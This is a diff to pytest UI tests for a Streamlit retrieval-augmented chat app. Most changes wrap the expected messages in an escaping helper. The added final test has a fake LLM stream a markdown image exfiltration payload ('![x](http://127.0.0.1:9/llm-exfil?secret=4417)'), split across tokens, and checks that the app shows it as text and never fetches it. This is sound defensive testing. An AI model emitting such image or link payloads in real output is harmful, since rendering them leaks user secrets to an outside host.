@@ -4,6 +4,7 @@ import pytest
 import streamlit as st
 from streamlit.testing.v1 import AppTest
 
+from rag.display import literal
 from tests.conftest import ROOT, SAMPLE_DOCS
 
 APP = str(ROOT / "streamlit_app.py")
@@ -46,7 +47,7 @@ def test_ask_gives_an_answer_with_cited_sources(settings, minilm, monkeypatch):
     at = _ask_about_amazon(settings, minilm, monkeypatch)
     assistant = at.chat_message[1]
     assert "60%" in "".join(m.value for m in assistant.markdown)
-    [first] = [e for e in at.expander if e.label.endswith("] amazon-rainforest-wikipedia.pdf, p. 1")]
+    [first] = [e for e in at.expander if e.label.endswith(f"] {literal('amazon-rainforest-wikipedia.pdf')}, p. 1")]
     kinds = [type(child).__name__ for child in first.children.values()]
     assert kinds == ["Markdown", "Image"]  # the source text, then the rendered page
     highlighted = "<mark>The majority of the forest is contained within Brazil, with 60% of the rainforest"
@@ -59,7 +60,7 @@ def test_llm_failure_is_a_message_not_a_traceback(settings, minilm, monkeypatch,
     monkeypatch.setenv("OPENAI_BASE_URL", fake_llm.base_url)
     monkeypatch.setenv("OPENAI_API_KEY", "sk-secret-ui-key")
     at = _ask_about_amazon(settings, minilm, monkeypatch)
-    assert any("rejected the API key (401)" in e.value for e in at.error)
+    assert any(literal("rejected the API key (401)") in e.value for e in at.error)
     assert "sk-secret-ui-key" not in str([e.value for e in at.error])
 
 
@@ -69,17 +70,17 @@ def test_upload_ingests_a_pdf_and_lists_it_then_delete_removes_it(app, settings)
     [ingest_button] = [b for b in app.sidebar.button if b.label == "Ingest uploaded files"]
     ingest_button.click().run()
     assert not app.exception
-    [ingested] = [s.value for s in app.success if "amazon.pdf: ingested 5 pages, " in s.value]
+    [ingested] = [s.value for s in app.success if f"{literal('amazon.pdf')}: ingested 5 pages, " in s.value]
     chunks = ingested.split("5 pages, ")[1].split(" chunks")[0]
     assert (settings.uploads_dir / "amazon.pdf").exists()
     assert not (settings.folio_data_dir.parent / "evil").exists()
-    assert any("**amazon.pdf**" in m.value for m in app.sidebar.markdown)
+    assert any(f"**{literal('amazon.pdf')}**" in m.value for m in app.sidebar.markdown)
 
     app.sidebar.button(key="re-amazon.pdf").click().run()
-    assert any(f"amazon.pdf: re-indexed 5 pages, {chunks} chunks" in s.value for s in app.success)
+    assert any(f"{literal('amazon.pdf')}: re-indexed 5 pages, {chunks} chunks" in s.value for s in app.success)
 
     app.sidebar.button(key="rm-amazon.pdf").click().run()
-    assert not any("**amazon.pdf**" in m.value for m in app.sidebar.markdown)
+    assert not any(f"**{literal('amazon.pdf')}**" in m.value for m in app.sidebar.markdown)
 
 
 def test_a_bad_upload_is_a_clear_message(app):
@@ -87,7 +88,7 @@ def test_a_bad_upload_is_a_clear_message(app):
     [ingest_button] = [b for b in app.sidebar.button if b.label == "Ingest uploaded files"]
     ingest_button.click().run()
     assert not app.exception
-    assert [e.value for e in app.error] == ["fake.pdf: not a PDF (no %PDF- header)"]
+    assert [e.value for e in app.error] == [f"{literal('fake.pdf')}: {literal('not a PDF (no %PDF- header)')}"]
 
 
 def test_after_an_llm_failure_the_history_stays_and_the_next_question_works(settings, minilm, monkeypatch, fake_llm):
@@ -96,9 +97,19 @@ def test_after_an_llm_failure_the_history_stays_and_the_next_question_works(sett
     fake_llm.then("stream", tokens=["Brazil has 60% [1]."])  # condensed follow-up is not needed: no history
     monkeypatch.setenv("OPENAI_BASE_URL", fake_llm.base_url)
     at = _ask_about_amazon(settings, minilm, monkeypatch)
-    assert any("failed with HTTP 500" in e.value for e in at.error)
+    assert any(literal("failed with HTTP 500") in e.value for e in at.error)
     at.chat_input[0].set_value("And how much is in Peru?").run()
     assert not at.exception
     roles = [m.name for m in at.chat_message]
     assert roles == ["user", "assistant", "user", "assistant"]
     assert "Brazil has 60% [1]." in "".join(m.value for m in at.chat_message[3].markdown)
+
+
+def test_a_generated_image_or_link_is_shown_as_text_never_fetched(settings, minilm, monkeypatch, fake_llm):
+    exfiltration = "![x](http://127.0.0.1:9/llm-exfil?secret=4417)"
+    fake_llm.then("stream", tokens=["Brazil has 60% [1]. ", exfiltration[:9], exfiltration[9:], " [see](http://e.x/)"])
+    monkeypatch.setenv("OPENAI_BASE_URL", fake_llm.base_url)
+    at = _ask_about_amazon(settings, minilm, monkeypatch)
+    shown = "".join(m.value for m in at.chat_message[1].markdown)
+    assert "Brazil has 60% [1]." in shown and "(image: x)" in shown
+    assert "](" not in shown and "http://" not in shown  # no image, no link, no autolink left
